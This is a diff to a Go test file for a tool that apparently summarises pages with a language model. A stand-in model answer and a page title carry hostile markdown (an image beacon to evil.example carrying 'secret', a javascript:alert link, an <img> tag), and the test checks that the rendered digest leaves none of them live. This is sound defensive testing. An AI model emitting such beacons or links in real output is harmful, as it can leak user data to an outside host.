@@ -14,6 +14,9 @@ import (
 	"sync/atomic"
 	"testing"
 
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
+
 	"pulltab/internal/chattest"
 )
 
@@ -134,7 +137,7 @@ func TestAServiceThatIsGoneEndsTheRunAtOnce(t *testing.T) {
 func TestC17_C21_TheDigestSaysHowItCameAbout(t *testing.T) {
 	service := chattest.Start(t)
 	service.Answer = func(chattest.Request) string {
-		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold**"
+		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold** It is about dough."
 	}
 	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 200})
 	long := write(t, dir, "long.md", "---\ntitle: \"[Long](https://evil.example)\"\nurl: https://example.com/long\n---\n"+strings.Repeat("A line about dough that goes on and on for a while.\n\n", 40))
@@ -156,17 +159,24 @@ chunks: \d+
 rounds: \d+
 calls: \d+
 cut: 0
+doubts: \d+
 ---
 `)
 	if !head.MatchString(out) {
 		t.Errorf("the head is\n%s", out)
 	}
-	// What the model and the page wrote does nothing.
-	body := head.ReplaceAllString(out, "")
-	for _, live := range []string{"](", "![", "\n# ", "<img"} {
-		if strings.Contains(strings.ReplaceAll(body, `\`+live[:1], ""), live) {
-			t.Errorf("%q is alive in\n%s", live, body)
-		}
+	// What the model and the page wrote does nothing: links lead to footnotes.
+	var html bytes.Buffer
+	reader := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote))
+	if err := reader.Convert([]byte(head.ReplaceAllString(out, "")), &html); err != nil {
+		t.Fatal(err)
+	}
+	links := regexp.MustCompile(`<a href="#fn[^>]*>`).ReplaceAllString(html.String(), "")
+	if strings.Contains(links, "<a ") || strings.Contains(links, "<img") || strings.Contains(links, "<h1") || strings.Count(links, "<h2") != 2 {
+		t.Errorf("something is alive in\n%s", links)
+	}
+	if !strings.Contains(links, "https://example.com/long") || !strings.Contains(links, "A line about dough") {
+		t.Errorf("address or sources are missing in\n%s", links)
 	}
 }
 
